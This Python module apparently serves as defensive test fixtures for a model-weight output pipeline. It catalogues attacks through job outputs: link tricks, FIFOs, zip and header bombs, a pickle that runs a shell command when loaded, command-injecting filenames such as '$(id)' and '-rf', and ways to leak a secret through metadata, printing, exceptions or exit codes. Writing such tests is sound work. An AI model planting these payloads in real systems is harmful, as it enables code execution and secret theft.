"""Ways out by the outputs: links, pipes, holes, names, archives, pickles, print and raise."""

import io
import os
import struct
import zipfile

OUTPUT = "weights.safetensors"


def at(config, name=OUTPUT):
    return f"{config['out']}/{name}"


def symlink(config):
    os.symlink(config["file"], at(config))


def hardlink(config):
    os.link(config["file"], at(config))


def hardlink_inside(config):
    """One file under two names: the second still writes after the first was looked at."""
    with open(at(config, "x"), "w") as file:
        file.write(config["secret"])
    os.link(at(config, "x"), at(config))


def fifo(config):
    """A reader that waits for its other end waits for ever."""
    os.mkfifo(at(config))


def sparse(config):
    """Costs the job nothing, and its reader everything."""
    with open(at(config), "wb") as file:
        file.truncate(config["sparse_bytes"])


def odd_names(config):
    for name in ("weights.safetensors\n", "..\\..\\x", ".hidden", "-rf", "$(id)", "\u202etxt.exe",
                 "weights.safetensors.pickle", config["secret"]):  # fmt: skip
        with open(at(config, name), "w") as file:
            file.write(config["secret"])


def zip_bomb(config):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights", bytes(config["sparse_bytes"]))
    with open(at(config), "wb") as file:
        file.write(packed.getvalue())


def header_bomb(config):
    """A safetensors header that claims eight exbibytes of itself."""
    with open(at(config), "wb") as file:
        file.write(struct.pack("<Q", 1 << 62) + b"{}")


def pickled(config):
    """Runs a program of the vendor's where somebody loads it."""
    place = f"{config['scratch']}/unpickled"
    with open(at(config), "wb") as file:
        file.write(b"cos\nsystem\n(S'touch " + place.encode() + b"'\ntR.")


def hidden_in_header(config):
    """An honest tensor under a header with something more to say."""
    header = b'{"__metadata__":{"note":"' + config["secret"].encode() + b'"},"w":'
    header += b'{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    with open(at(config), "wb") as file:
        file.write(struct.pack("<Q", len(header)) + header + bytes(8))


def printed(config):
    print(config["secret"], flush=True)
    os.write(2, config["secret"].encode())


def raised(config):
    raise SystemError(config["secret"])


def exit_code(config):
    os._exit(config["secret"].encode()[0])


ATTACKS = {
    attack.__name__: attack
    for attack in (
        symlink, hardlink, hardlink_inside, fifo, sparse, odd_names, zip_bomb, header_bomb, pickled,
        hidden_in_header, printed, raised, exit_code,
    )
}  # fmt: skip
